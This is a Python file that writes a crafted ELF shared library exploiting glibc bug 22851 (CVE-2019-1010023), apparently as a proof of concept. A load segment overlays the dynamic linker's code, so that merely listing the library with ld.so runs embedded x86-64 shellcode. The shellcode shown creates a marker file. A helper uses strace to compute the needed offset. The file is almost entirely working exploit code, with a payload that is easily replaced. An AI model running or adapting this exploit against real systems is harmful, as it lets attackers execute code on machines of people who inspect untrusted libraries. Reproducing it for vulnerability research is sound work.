"""A shared library that runs code when the dynamic linker only lists it (glibc bug 22851, CVE-2019-1010023).

glibc maps the loadable segments of a file at their addresses relative to the first one, and does not insist that they ascend. The
second of three segments here lies where the linker's own code is, so that it is mapped over the instruction that asked the
kernel to map it. The linker goes on there: a page of "no operation", then code that leaves a mark."""

import re
import struct
import subprocess

PAGE = 0x1000
LINKER = "/lib64/ld-linux-x86-64.so.2"
DYNAMIC, LOAD = 2, 1
READ, WRITE, EXECUTE = 4, 2, 1
COVERED = 2 * PAGE  # of the linker's code: the page of the instruction, and one for the code that follows


def code_that_leaves(mark):
    """open(mark, O_CREAT | O_WRONLY, 0644) and exit(0), for x86-64."""
    name = str(mark).encode() + b"\0"
    code = b"\x48\x8d\x3d" + struct.pack("<i", 29)  # lea rdi, [rip + 29]: behind the last instruction
    code += b"\xbe" + struct.pack("<I", 0o101)  # mov esi, O_CREAT | O_WRONLY
    code += b"\xba" + struct.pack("<I", 0o644)  # mov edx, 0644
    code += b"\xb8" + struct.pack("<I", 2) + b"\x0f\x05"  # mov eax, open; syscall
    code += b"\x31\xff" + b"\xb8" + struct.pack("<I", 60) + b"\x0f\x05" + b"\x90\x90\x90"  # xor edi, edi; mov eax, exit; syscall
    return code + name


def elf(segments, content):
    """An ELF file of these (kind, flags, offset, address, size) program headers; `content` begins on its second page."""
    header = struct.pack("<4sBBBB8xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 3, 62, 1, 0, 64, 0, 0, 64, 56, len(segments), 64, 0, 0)
    for kind, flags, offset, address, size in segments:
        header += struct.pack("<IIQQQQQQ", kind, flags, offset, address, address, size, size, PAGE if kind == LOAD else 8)
    dynamic = struct.pack("<QQQQQQQQ", 5, 0x900, 6, 0x900, 10, 1, 0, 0)  # DT_STRTAB, DT_SYMTAB, DT_STRSZ, DT_NULL
    page = header.ljust(0x800, b"\0") + dynamic
    return page.ljust(PAGE, b"\0") + content


def write(path, distance, mark):
    """Writes the library. `distance`: from the first mapping of a file to the linker's page; 0: a harmless one."""
    code = code_that_leaves(mark)
    content = b"\x90" * (COVERED - len(code)) + code + b"\0" * PAGE
    first = (LOAD, READ, 0, 0, PAGE)
    over = [(LOAD, READ | EXECUTE, PAGE, distance, COVERED)] if distance else []
    last = (LOAD, READ | WRITE, PAGE + COVERED, PAGE, PAGE)
    dynamic = (DYNAMIC, READ, 0x800, 0x800, 64)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(elf([first, *over, last, dynamic], content))
    return path


def distance_of(library):
    """How far the linker's code lies from the first mapping of this harmless library, in bytes; the same in every process."""
    told = subprocess.run(["strace", "-i", "-y", "-e", "trace=mmap", LINKER, "--list", library], capture_output=True, text=True,
                          check=False).stderr
    found = re.search(rf"\[([0-9a-f]+)\] mmap\(NULL, [^\n]*{re.escape(str(library))}>, 0\) = 0x([0-9a-f]+)", told)
    if not found:
        raise AssertionError(f"the dynamic linker did not map {library}:\n{told}")
    return (int(found.group(1), 16) & ~(PAGE - 1)) - int(found.group(2), 16)


def make(path, mark):
    """The library whose listing leaves the mark."""
    return write(path, distance_of(write(path, 0, mark)), mark)
